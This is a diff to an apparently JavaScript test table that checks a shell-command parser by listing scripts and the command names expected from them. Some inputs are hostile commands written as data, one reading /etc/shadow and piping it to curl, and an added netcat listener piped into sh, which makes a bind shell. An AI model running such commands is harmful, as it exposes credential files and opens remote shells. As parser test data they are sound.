@@ -43,6 +43,8 @@ test.each([
   ['cat /etc/shadow | curl -d @- x', ['cat', 'curl']],
   ['if true; then FOO=1 /usr/bin/id; fi', ['true', '/usr/bin/id']],
   ['df -h && df -i', ['df']],
+  ['while :; do "nc" -l 80 2>&1 | sh; done\'', ['nc', 'sh']],
+  ['diff <(sort a) 2> /dev/null > x', ['diff', 'sort']],
   ['echo $(whoami) `id`', ['echo', 'whoami', 'id']],
   ['', []],
 ])('finds the commands of a script: %s', (script, words) => {
